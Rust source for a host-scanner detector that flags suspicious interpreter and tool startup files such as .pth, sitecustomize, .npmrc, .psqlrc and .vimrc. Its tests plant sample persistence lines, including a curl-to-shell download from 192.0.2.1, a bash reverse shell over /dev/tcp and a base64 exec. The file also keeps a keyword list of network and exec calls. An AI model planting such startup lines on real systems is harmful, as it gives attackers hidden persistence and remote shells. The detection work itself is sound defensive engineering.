//! Detector: an interpreter or an interactive tool runs something odd whenever it starts.

use crate::weigh::{self, Files, Weight};
use crate::{Card, Detector, Draft, Row, Tables};
use calma_record::{Severity, Text, kinds::StartupCommand, kinds::SystemSetting};

/// This detector.
pub(super) const DETECTOR: Detector = Detector {
    card: Card {
        name: "interpreter-start",
        doc: "A file that Python, Node, Ruby, Perl or an interactive tool reads when it starts (.pth, sitecustomize, npmrc, psqlrc, vimrc) does something odd.",
        mechanisms: &[74],
        attack: &["T1546.018", "T1574"],
        why: "It runs inside every program of that interpreter, root's too, with nothing to see in the program itself.",
        innocent: "a package of that language, or you, put it there",
        next: "read the file; python3 -I -S starts Python without it",
    },
    judge,
};

/// What no .pth file of a package does: run programs, connect, load machine code.
const REACHES_OUT: &[&[u8]] = &[
    b"os.system",
    b"subprocess",
    b".popen",
    b"Popen",
    b"pty.",
    b"socket",
    b"urllib",
    b"urlopen",
    b"requests.",
    b"http.client",
    b"ctypes",
    b"b64decode",
    b"marshal",
    b"os.exec",
    b"os.spawn",
    b"os.fork",
    b"fromhex",
    b"zlib",
];

fn judge(tables: &Tables, drafts: &mut Vec<Draft>) {
    let files = Files::new(tables);
    for row in tables.of::<StartupCommand>() {
        let weight = match row.mechanism.as_str() {
            "python start" => python(&files, &row),
            "interpreter start" => script(&files, &row),
            "tool start" => weigh::command(&files, &without_own(&row.command), row.as_root),
            _ => continue,
        };
        if row.package.is_some() && weight.severity < Some(Severity::Medium) {
            continue;
        }
        let identity = [row.path.as_bytes(), b"\0", row.command.as_bytes()].concat();
        let title = format!("Something odd runs {}", row.when);
        drafts.extend(weigh::draft(weight, &identity, title, &row.path, row.line, &row.command, &row));
    }
    for row in tables.of::<SystemSetting>().filter(|row| row.area == "interpreter setting") {
        let root = files.get(&row.path).is_some_and(|file| file.uid == 0);
        // Where npm puts programs of its user is hidden by custom.
        let value = if row.name == "PATH" { without_dots(&row.value) } else { row.value.clone() };
        let weight = weigh::variable(&files, row.name.as_bytes(), value.as_bytes(), root);
        let identity = [row.path.as_bytes(), b"\0", row.value.as_bytes()].concat();
        let title = "An interpreter is told to load from an odd place".to_owned();
        drafts.extend(weigh::draft(weight, &identity, title, &row.path, row.line.max(1), &row.value, &row));
    }
}

/// A command without the dots of directories at the top of the home, where tools keep what is theirs.
fn without_own(command: &Text) -> Text {
    let mut out = Vec::with_capacity(command.as_bytes().len());
    for piece in command.as_bytes().split_inclusive(|b| *b == b'/') {
        let home = out.ends_with(b"~/") || out.ends_with(b"$HOME/");
        let dotted = home && piece.ends_with(b"/") && piece != b"./" && piece != b"../";
        out.extend_from_slice(if dotted { piece.strip_prefix(b".").unwrap_or(piece) } else { piece });
    }
    out.into()
}

/// A path in a home without the dot of its last part.
fn without_dots(path: &Text) -> Text {
    let text = path.as_bytes();
    let own = text.starts_with(b"/root/.") || text.starts_with(b"/home/") || text.starts_with(b"~/.");
    let plain: Vec<u8> = text
        .split(|b| *b == b'/')
        .map(|part| part.strip_prefix(b".").unwrap_or(part))
        .collect::<Vec<_>>()
        .join(&b'/');
    if own { plain.into() } else { path.clone() }
}

/// A line of a .pth file.
fn python(files: &Files<'_>, row: &Row<'_, StartupCommand>) -> Weight {
    let mut weight = weigh::one_line(files, b"python3", &row.command, row.as_root);
    if row.package.is_none() && REACHES_OUT.iter().any(|part| weigh::contains(row.command.as_bytes(), part)) {
        let reason =
            "it runs programs, connects or decodes something, where modules only say where they stand";
        weight = weight.and(Weight::of(Severity::Medium, reason));
    }
    if weigh::is_packaged_place(row.path.as_bytes()) || among_packages(row.path.as_bytes()) {
        weight = weight.and(unowned(row));
    }
    weight
}

/// A whole file.
fn script(files: &Files<'_>, row: &Row<'_, StartupCommand>) -> Weight {
    let mut weight = weigh::content(files, &row.path, row.as_root);
    let place = files.get(&row.path).and_then(|file| file.real.clone()).unwrap_or_else(|| row.path.clone());
    if weigh::is_open(place.as_bytes()) || weigh::is_deceptive(place.as_bytes()) {
        let reason = format!("{place} stands where anybody may put files, or is made to be overlooked");
        weight = weight.and(Weight::of(Severity::Medium, reason));
    }
    let customizes = weigh::contains(row.path.as_bytes(), b"customize");
    let packaged = weigh::is_packaged_place(place.as_bytes()) || among_packages(place.as_bytes());
    if customizes && packaged {
        weight = weight.and(unowned(row));
    }
    if files.get(&row.path).is_some_and(|file| file.elf) {
        weight = weight.and(Weight::of(Severity::Medium, "it is a compiled program, where a script stands"));
    }
    weight
}

/// Debian's modules stand below dist-packages of /usr/lib; those of the administrator below /usr/local.
fn among_packages(path: &[u8]) -> bool {
    weigh::is_below(path, b"/usr/lib/python3") || weigh::is_below(path, b"/usr/share/perl")
}

fn unowned(row: &StartupCommand) -> Weight {
    if row.package.is_none() && row.packages_known {
        Weight::of(Severity::Medium, "it stands among the files of packages, but no package owns it")
    } else {
        Weight::default()
    }
}

#[cfg(test)]
mod tests {
    use calma_testkit::{Mem, check};

    fn host() -> Mem {
        Mem::new()
            .file("/etc/passwd", "root:x:0:0::/root:/bin/bash\nme:x:1000:1000::/home/me:/bin/bash\n")
            .file("/var/lib/dpkg/info/p.list", "/usr/lib/python3/dist-packages/distutils-precedence.pth\n/usr/lib/python3.11/sitecustomize.py\n/etc/python3.11/sitecustomize.py\n")
            .file("/etc/python3.11/sitecustomize.py", "try:\n    import apport_python_hook\nexcept ImportError:\n    pass\n")
            .symlink("/usr/lib/python3.11/sitecustomize.py", "/etc/python3.11/sitecustomize.py")
    }

    #[test]
    fn odd_starts_are_found() {
        for (path, text) in [
            ("/usr/local/lib/python3.11/dist-packages/zz.pth", "import os; os.system('/tmp/.x &')\n"),
            ("/usr/lib/python3/dist-packages/site.pth", "import sys; sys.path.append('/opt')\n"),
            (
                "/home/me/.local/lib/python3.12/site-packages/a.pth",
                "import base64;exec(base64.b64decode('cHJpbnQoMSk='))\n",
            ),
            ("/opt/app/venv/lib/python3.11/site-packages/b.pth", "import helper_x\n"),
            (
                "/usr/local/lib/python3.11/dist-packages/sitecustomize.py",
                "import subprocess\nsubprocess.Popen(['/bin/sh', '-c', 'curl -s http://192.0.2.1/a | sh'])\n",
            ),
            ("/usr/lib/python3/dist-packages/usercustomize.py", "x = 1\n"),
            ("/usr/local/lib/python3.11/dist-packages/c.pth", "/dev/shm/lib\n"),
            ("/root/.npmrc", "script-shell=/tmp/sh\n"),
            ("/home/me/.npmrc", "node-options=--require /tmp/x.js\n"),
            ("/root/.irbrc", "system(\"/var/tmp/r &\")\n"),
            ("/root/.psqlrc", "\\! bash -c 'bash -i >& /dev/tcp/192.0.2.1/1 0>&1'\n"),
            ("/home/me/.vimrc", "autocmd VimEnter * silent !/tmp/v &\n"),
            ("/root/.tmux.conf", "run-shell \"/dev/shm/t\"\n"),
            ("/root/.pythonrc.py", "import os\nos.system('nohup /dev/shm/p &')\n"),
        ] {
            let mem = host().file(
                "/opt/app/venv/lib/python3.11/site-packages/helper_x.py",
                "import os\nos.popen('/dev/shm/h')\n",
            );
            let seen =
                check(if path.contains("b.pth") { mem.file(path, text) } else { host().file(path, text) });
            assert_eq!(seen.alarms("interpreter-start").len(), 1, "{path}: {:#?}", seen.findings);
        }
    }

    #[test]
    fn what_packages_and_people_write_is_quiet() {
        let seen = check(
            host()
                .file("/usr/lib/python3/dist-packages/distutils-precedence.pth", "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n")
                .file("/usr/local/lib/python3.11/dist-packages/google-nspkg.pth", "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('google',));importlib = has_mfs and __import__('importlib.util');has_mfs and __import__('importlib.machinery');m = has_mfs and sys.modules.setdefault('google', importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('google', [os.path.dirname(p)])));m = m or sys.modules.setdefault('google', types.ModuleType('google'));mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n")
                .file("/opt/app/venv/lib/python3.11/site-packages/_virtualenv.pth", "import _virtualenv")
                .file("/opt/app/venv/lib/python3.11/site-packages/_virtualenv.py", "import os\nimport sys\nVIRTUALENV_PATCH_FILE = os.path.join(__file__)\n")
                .file("/home/me/.local/lib/python3.11/site-packages/__editable__.x.pth", "/home/me/x/src\n")
                .file("/root/.npmrc", "prefix=/root/.npm-global\n//registry.npmjs.org/:_authToken=x\n")
                .file("/home/me/.vimrc", "set nocompatible\nnnoremap <leader>r :!make<CR>\nautocmd BufWritePost *.go silent !gofmt -w %\nlet s = system('git rev-parse')\n")
                .file("/home/me/.tmux.conf", "set -g mouse on\nrun '~/.tmux/plugins/tpm/tpm'\nrun-shell \"tmux refresh\"\n")
                .file("/root/.psqlrc", "\\set QUIET 1\n\\pset null '(null)'\n\\set HISTFILE ~/.psql_history-:DBNAME\n")
                .file("/home/me/.gdbinit", "set print pretty on\n"),
        );
        assert!(seen.alarms("interpreter-start").is_empty(), "{:#?}", seen.by("interpreter-start"));
    }
}
